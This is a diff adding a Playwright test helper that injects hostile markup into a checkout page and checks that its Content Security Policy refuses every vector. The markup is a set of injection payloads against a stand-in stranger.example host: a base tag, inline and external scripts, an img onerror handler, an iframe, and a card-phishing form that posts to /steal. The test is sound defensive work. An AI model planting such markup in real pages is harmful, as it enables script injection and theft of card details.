@@ -1,0 +1,60 @@
+// What somebody would write into a page of ours, had they found a way to.
+import assert from 'node:assert/strict'
+import type { BrowserContext, Page } from 'playwright-core'
+import { soon } from '../soon.ts'
+
+const STRANGER = 'https://stranger.example'
+
+const MARKUP = `
+  <base href="${STRANGER}/">
+  <script>window.stolen = true</script>
+  <script src="${STRANGER}/steal.js"></script>
+  <img src="${STRANGER}/pixel.png" alt="" onerror="window.stolen = true">
+  <iframe src="${STRANGER}/form" title="Stranger"></iframe>
+  <form action="${STRANGER}/steal" method="post"><button>Confirm your card</button></form>`
+
+/** What a page's own rules refused, by the directive that did. */
+type Refusing = { refused?: string[] }
+
+/** Somebody whose pages of the checkout arrive with a stranger's markup in them. */
+export async function withInjection(visitor: BrowserContext): Promise<{ asked: string[] }> {
+  const asked: string[] = []
+  await visitor.route(`${STRANGER}/**`, async route => {
+    asked.push(route.request().url())
+    await route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
+  })
+  await visitor.addInitScript(() => {
+    const refused: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      refused.push(effectiveDirective)
+    })
+    const page = window as unknown as Refusing
+    page.refused = refused
+  })
+  await visitor.route('**/checkout/gatehouse_c_*', async route => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('</body>', `${MARKUP}</body>`)
+    await route.fulfill({ response, body })
+  })
+  return { asked }
+}
+
+/**
+ * Refuses a page that let any of it happen. It is looked at in a tab of its own, which waits for
+ * ever to be where the form leads.
+ */
+export async function expectRefused(page: Page, { asked }: { asked: string[] }): Promise<void> {
+  const tab = await page.context().newPage()
+  await tab.goto(page.url())
+  await tab.getByRole('heading', { level: 1 }).waitFor()
+  const refused = () =>
+    tab.evaluate(() => [...new Set((window as unknown as Refusing).refused)].toSorted())
+  const directives = ['base-uri', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem']
+  await soon(refused, directives)
+  await tab.getByRole('button', { name: 'Confirm your card' }).dispatchEvent('click')
+  await soon(refused, [...directives, 'form-action'].toSorted())
+  assert.equal(await tab.evaluate(() => 'stolen' in window), false)
+  assert.deepEqual(asked, [], 'nothing was asked of the stranger')
+  assert.equal(tab.url(), page.url())
+  await tab.close()
+}
